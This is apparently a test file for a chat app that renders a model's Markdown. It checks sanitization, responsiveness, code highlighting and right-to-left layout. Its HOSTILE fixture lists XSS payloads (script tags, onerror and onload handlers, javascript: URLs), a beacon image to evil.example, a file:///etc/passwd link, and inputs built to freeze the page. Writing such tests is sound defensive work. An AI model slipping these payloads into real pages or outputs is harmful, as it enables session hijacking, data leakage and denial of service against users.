// Goal: text of a model cannot run code, load resources, navigate or freeze the page; harmless Markdown renders well, and complete code is
// highlighted.

import { expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { accessibilityProblems } from "../kit/browser/axe.ts";
import { bubble, chatRoom, composer, write } from "../kit/browser/chat-room.ts";
import { eventually } from "../kit/eventually.ts";
import { gate, say } from "../kit/model/index.ts";
import { mainThreadMs } from "../kit/browser/page-time.ts";
import { onScreen } from "../kit/browser/screen.ts";
import { edgesOf } from "../kit/browser/edges.ts";

/** Of processor, from the end of the answer to a key that is shown. */
const FREEZE_MS_MAX = 500;

const HOSTILE = `Harmless.

<script>document.title = "owned"</script>
<img src="x" onerror="document.title = 'owned'">
<svg onload="document.title = 'owned'"><use href="data:image/svg+xml,x"/></svg>
<a href="javascript:document.title='owned'" style="position:fixed;inset:0">html</a>
<form action="/api/v1/workspaces" method="post"><button>send</button></form>
<iframe src="https://evil.example/frame"></iframe>

[script](javascript:document.title='owned') [coded](java&#115;cript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [own](/api/v1/logout)

![spy](https://evil.example/pixel.png?who=me) ![inline](data:image/png;base64,AAAA) ![quote](https://evil.example/"onload="x)

[good](https://example.org/path "a title") and <https://example.org/auto> and [mail](mailto:a@example.org)

| <img src=x onerror=alert(1)> | b |
| --- | --- |
| <b style="color:red">x</b> | [x](javascript:alert(1)) |

- [ ] open <details open ontoggle=alert(1)>

\`\`\`"><img src=x onerror=alert(1)>
code </code></pre><script>alert(1)</script>
\`\`\`
`;

onScreen("Markdown of a model", chatRoom, (room) => {
  async function shown(text: string, mark: string): Promise<Page> {
    const page = await room.open((await room.desk()).own);
    room.model.script("boss", [say(text)]);
    await write(page, "Go.");
    await bubble(page, "orchestrator", mark).waitFor();
    return page;
  }

  const typing = (page: Page) =>
    mainThreadMs(page, async () => {
      await composer(page).press("a");
      await eventually(() => composer(page).inputValue(), "a");
    });

  test("neutralizes hostile Markdown", async () => {
    await using page = await room.open((await room.desk()).own);
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    room.model.script("boss", [say(HOSTILE)]);
    await write(page, "Go.");
    const answer = bubble(page, "orchestrator", "Harmless.");
    await answer.getByRole("link", { name: "good" }).waitFor();
    await eventually(() => page.getByText("is answering").count(), 0);
    expect(await page.title()).toStartWith("desk");
    expect(
      await answer.evaluate((element) => {
        const inside = [...element.querySelectorAll(".markdown *")];
        return {
          tags: [...new Set(inside.map(({ localName }) => localName))].filter(
            (name) =>
              ["script", "img", "svg", "use", "iframe", "form", "details", "object", "style"].includes(
                name,
              ) && !inside.some((one) => one.localName === name && one.closest(".md-code-head")),
          ),
          handlers: inside.flatMap((one) =>
            one.getAttributeNames().filter((name: string) => name.startsWith("on")),
          ),
          styles: inside.filter((one) => one.hasAttribute("style")).length,
          links: [...element.querySelectorAll(".markdown a")].map((link) =>
            ["href", "target", "rel"].map((name) => link.getAttribute(name)).join(" "),
          ),
        };
      }),
    ).toEqual({
      tags: [],
      handlers: [],
      styles: 0,
      links: [
        "https://evil.example/pixel.png?who=me _blank noopener noreferrer",
        "https://evil.example/%22onload=%22x _blank noopener noreferrer",
        "https://example.org/path _blank noopener noreferrer",
        "https://example.org/auto _blank noopener noreferrer",
        "mailto:a@example.org _blank noopener noreferrer",
      ],
    });
    // An image becomes a link with its description and address; HTML becomes text.
    await answer.getByRole("link", { name: "spy evil.example" }).waitFor();
    await answer.getByText("<script>", { exact: false }).first().waitFor();
    await eventually(
      () => answer.getByRole("link", { name: "good" }).getAttribute("title"),
      "Open https://example.org/path",
    );
    expect(asked.filter((url) => !url.startsWith(room.url))).toEqual([]);
    expect(await accessibilityProblems(page)).toEqual([]);
  });

  const table = `|${"head|".repeat(20)}\n|${"---|".repeat(20)}\n${`|${"cell|".repeat(20)}\n`.repeat(500)}`;
  const lists = Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- level ${depth}`).join("\n");
  const quotes = Array.from({ length: 200 }, (_, depth) => `${">".repeat(depth + 1)} quote ${depth}`).join(
    "\n\n",
  );
  for (const [name, text] of [
    ["a table of 500 rows and 20 columns", table],
    ["lists in lists, 200 deep", lists],
    ["quotes in quotes, 200 deep", quotes],
    ["brackets and stars without end", `${"[".repeat(15_000)}\n\n${"*a ".repeat(6_000)}`],
    ["code of 300,000 characters", `\`\`\`js\n${"const a = [1, 2, 3];\n".repeat(15_000)}\n\`\`\``],
  ] as const) {
    test(`stays responsive and inside its column: ${name}`, async () => {
      const page = await shown(`Begin.\n\n${text}\n\nThe end of it.`, "The end of it");
      expect(await typing(page)).toBeLessThan(FREEZE_MS_MAX);
      const column = await page
        .getByRole("group", { name: "Conversation" })
        .evaluate((element) => element.scrollWidth - element.clientWidth);
      expect(column).toBe(0);
    });
  }

  test("shows a line of one megabyte verbatim, at first its start", async () => {
    const page = await shown(`Begin.\n\n${"word ".repeat(200_000)}`, "Begin.");
    const all = page.getByRole("button", { name: /^Show all 1,000,\d+ characters$/ });
    await all.waitFor();
    expect(await typing(page)).toBeLessThan(FREEZE_MS_MAX);
  });

  test("shows streaming code as plain text; highlights it and offers copying once complete, without touching earlier blocks", async () => {
    await using page = await room.open((await room.desk()).own);
    const hold = gate();
    room.model.script("boss", [
      [
        ...say("Before it.\n\n```ts\nconst first: number = 1;\n"),
        hold,
        ...say("const last = 2;\n```\n\nAfter it."),
      ],
    ]);
    await write(page, "Code, please.");
    const answer = bubble(page, "orchestrator", "Before it.");
    const code = answer.getByRole("figure", { name: "Code, ts" });
    await code.getByText("const first: number = 1;").waitFor();
    expect(await code.locator("[class^=tok-]").count()).toBe(0);
    await answer.getByText("Before it.").evaluate((element) => element.setAttribute("data-mark", "the same"));
    hold.open();
    await answer.getByText("After it.").waitFor();
    await eventually(() => code.locator(".tok-keyword").allTextContents(), ["const", "const"]);
    await eventually(() => answer.getByText("Before it.").getAttribute("data-mark"), "the same");
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await code.getByRole("button", { name: "Copy code" }).click();
    expect(await page.evaluate<string>("navigator.clipboard.readText()")).toBe(
      "const first: number = 1;\nconst last = 2;",
    );
  });

  test("skips no heading level, aligns right-to-left text, and fits 360 pixels", async () => {
    const text =
      "### Deep first\n\n# Then high\n\n#### Deep again\n\nنص عربي قصير.\n\n| a | b |\n|---|--:|\n| 1 | 2 |";
    const page = await shown(text, "Deep again");
    await page.setViewportSize({ width: 360, height: 700 });
    const levels = await bubble(page, "orchestrator", "Deep again").evaluate((element) =>
      [...element.querySelectorAll("h1,h2,h3,h4,h5,h6")].map(({ localName }) => localName),
    );
    expect(levels).toEqual(["h2", "h2", "h3"]);
    const arabic = page.getByText("نص عربي قصير.", { exact: true });
    const column = bubble(page, "orchestrator", "Deep again").locator(".markdown");
    expect(await arabic.evaluate((element) => element.closest("[dir]")?.getAttribute("dir"))).toBe("auto");
    await eventually(async () => (await edgesOf(arabic)).width <= (await edgesOf(column)).width, true);
    const conversation = page.getByRole("group", { name: "Conversation" });
    await eventually(() => conversation.evaluate((element) => element.scrollWidth - element.clientWidth), 0);
    expect(await accessibilityProblems(page)).toEqual([]);
  });

  test("gives each paragraph, item and cell the direction of its own text, and code that of code", async () => {
    await using page = await shown(
      "Both languages.\n\nمرحبا بالعالم.\n\n- English.\n- عربي: `--all`.\n\n| a |\n| --- |\n| نعم. |\n",
      "Both languages.",
    );
    /** Whether the first letter is to the left of the last one. */
    const goesRight = (text: string) =>
      page
        .locator(".md-block :is(p, li, td, code)", { hasText: text })
        .last()
        .evaluate((element) => {
          const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
          const nodes: Text[] = [];
          while (walker.nextNode()) nodes.push(walker.currentNode as Text);
          const at = (node: Text, index: number) => {
            const range = document.createRange();
            range.setStart(node, index);
            range.setEnd(node, index + 1);
            return range.getBoundingClientRect().x;
          };
          const last = nodes.filter(({ data }) => data.trim() !== "").at(-1)!;
          return at(nodes[0]!, 0) < at(last, last.data.trimEnd().length - 1);
        });
    const texts = ["Both languages", "مرحبا", "English", "عربي", "نعم", "--all"];
    const found: boolean[] = [];
    for (const text of texts) found.push(await goesRight(text));
    expect(found).toEqual([true, false, true, false, false, true]);
  });
});
